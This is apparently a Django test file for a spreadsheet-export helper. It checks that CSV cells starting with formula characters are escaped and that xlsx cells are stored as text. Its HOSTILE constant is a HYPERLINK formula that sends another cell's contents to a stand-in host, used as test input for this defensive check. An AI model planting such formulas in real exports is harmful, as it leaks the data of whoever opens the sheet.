import csv
import io
from typing import Any

from django.test import SimpleTestCase
from openpyxl import Workbook, load_workbook

from gocua.lib.sheets import csv_cell, csv_writer, xlsx_row

HOSTILE = '=HYPERLINK("http://x.example/?x="&G2,"Bấm vào")'


class SheetsTestCase(SimpleTestCase):
    def test_it_prefixes_every_formula_start_in_csv(self) -> None:
        for start in ("=", "+", "-", "@", "\t", "\r"):
            self.assertEqual(csv_cell(start + "1+1"), "'" + start + "1+1")
        self.assertEqual(csv_cell("Nguyễn Văn An"), "Nguyễn Văn An")
        self.assertEqual(csv_cell(-3), -3)  # a number stays a number
        out = io.StringIO()
        csv_writer(out).writerows([["ten"], [HOSTILE]])
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        self.assertEqual(rows[1], ["'" + HOSTILE])

    def test_it_writes_text_cells_in_both_workbook_modes(self) -> None:
        for write_only in (False, True):
            book = Workbook(write_only=write_only)
            sheet: Any = book.create_sheet("x") if write_only else book.active
            sheet.append(xlsx_row(sheet, [HOSTILE, "@SUM(A1)", "0912\x01345678", 12, None]))
            out = io.BytesIO()
            book.save(out)
            sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[-1]
            cells = next(sheet.iter_rows())
            self.assertEqual([c.data_type for c in cells[:4]], ["s", "s", "s", "n"])
            self.assertEqual(cells[0].value, HOSTILE)
            self.assertEqual(cells[2].value, "0912345678")
